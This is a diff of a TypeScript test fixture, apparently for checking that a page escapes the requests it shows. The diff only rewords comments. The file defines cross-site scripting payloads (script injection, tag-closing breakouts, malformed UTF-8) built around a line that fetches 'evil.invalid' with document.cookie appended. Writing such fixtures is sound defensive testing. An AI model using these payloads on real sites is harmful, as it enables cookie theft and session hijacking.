@@ -1,11 +1,11 @@
-// Requests that would do something on a page that shows them carelessly. Each payload sets a global, asks a foreign
-// server, or changes what one reads.
+// Requests that would do something on a careless page. Each payload sets a global, asks a foreign server, or changes
+// the text that a reader sees.
 
 import { requestOf } from "./page_fixture.ts";
 
 const CODE = "window.__ran=1;alert(1);fetch('http://evil.invalid/'+document.cookie)";
 
-/** What is put into every place of a request, by what it tries. */
+/** The payloads for every place of a request, by what they try. */
 export const PAYLOADS: Readonly<Record<string, string>> = {
   script: `<script>${CODE}</script>`,
   "closing tags": `"'></pre></style></template></script><script>${CODE}</script>`,
@@ -26,7 +26,7 @@ export const PAYLOADS: Readonly<Record<string, string>> = {
   "broken UTF-8": "\xc0\xbcscript\xc0\xbe\xed\xa0\x80\xff\xfe",
 };
 
-/** The requests of a payload: well-formed ones with it wherever the grammar lets it stand, and malformed ones. */
+/** The requests of a payload: well-formed ones with it at every place that the grammar allows, and malformed ones. */
 export function hostileRequests(payload: string): string[] {
   const fields = [
     `X-Value: ${printable(payload)}`,
